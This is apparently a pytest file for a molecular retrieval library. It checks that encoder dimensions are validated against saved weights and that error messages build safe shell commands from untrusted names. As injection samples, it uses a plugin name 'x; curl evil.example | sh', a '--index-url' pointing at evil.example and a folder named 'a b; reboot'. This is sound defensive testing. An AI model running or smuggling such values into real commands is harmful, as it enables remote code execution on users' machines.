"""A bundle's configuration is held against its weights before any memory is taken."""

from __future__ import annotations

import shlex
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

from molvis_core.errors import BundleError
from molvis_core.testing import offer
from molvis_files.documents import write_toml
from molvis_nn.sizes import read_shapes
from molvis_retrieval.bundle import Bundle, load_bundle, save_bundle, verify_bundle
from molvis_retrieval.config import parse_config

sys.path.insert(0, str(Path(__file__).parent))
import toy


def _states() -> dict[str, dict[str, torch.Tensor]]:
    return {"msms": toy.Peaks().state_dict(), "structure": toy.Letters().state_dict()}


@pytest.fixture
def saved(tmp_path: Path) -> Iterator[Bundle]:
    with offer(toy.PLUGIN):
        yield save_bundle(tmp_path / "tiny", parse_config(toy.CONFIG), _states())


def _edited(bundle: Bundle, **changes: object) -> None:
    file = bundle.path / "bundle.toml"
    content = tomllib.loads(file.read_text(encoding="utf-8"))
    for key, value in changes.items():
        place = content
        *above, last = key.split("__")
        for part in above:
            place = place[part]
        place[last] = value
    file.write_text(write_toml(content), encoding="utf-8")


@pytest.mark.parametrize("dim", [10**9, 10**12, 500_000])
def test_an_encoder_far_larger_than_its_weights_is_not_made(saved: Bundle, dim: int) -> None:
    _edited(saved, config__encoders__structure__dim=dim)
    opened = verify_bundle(saved.path, accept=True)
    with pytest.raises(BundleError, match=r"bundle\.toml: encoders\.structure: (dim is|requires more parameters)"):
        opened.encoder("structure")


def test_an_encoder_of_its_weights_size_is_made_as_before(saved: Bundle) -> None:
    assert load_bundle(saved.path).encoder("structure").dim == 8
    assert sum(len(s) for s in read_shapes(saved.path / "structure.safetensors").values()) == 6


def test_names_from_a_bundle_stand_in_a_command_only_where_they_are_names(saved: Bundle) -> None:
    evil = "x; curl evil.example | sh"
    _edited(
        saved, config__encoders__structure__use="toy-none",
        plugins={"molvis-raman": "1", evil: "1", "--index-url=http://evil.example": "1", "a\x1b[2Jb": "1"},
    )  # fmt: skip
    with pytest.raises(BundleError) as caught:
        verify_bundle(saved.path, accept=True)
    said = str(caught.value)
    command = said.partition("pip install ")[2]
    assert shlex.split(command) == ["molvis-raman"]
    assert repr(evil) in said
    assert "\x1b" not in said


def test_advice_about_a_folder_with_an_odd_name_is_one_command(saved: Bundle, tmp_path: Path) -> None:
    odd = saved.path.rename(tmp_path / "a b; reboot")
    _edited(load_bundle(odd), name="changed")
    with pytest.raises(BundleError) as caught:
        load_bundle(odd)
    command = str(caught.value).partition("on purpose: ")[2]
    assert shlex.split(command) == ["molvis", "bundle", "verify", str(odd), "--accept"]
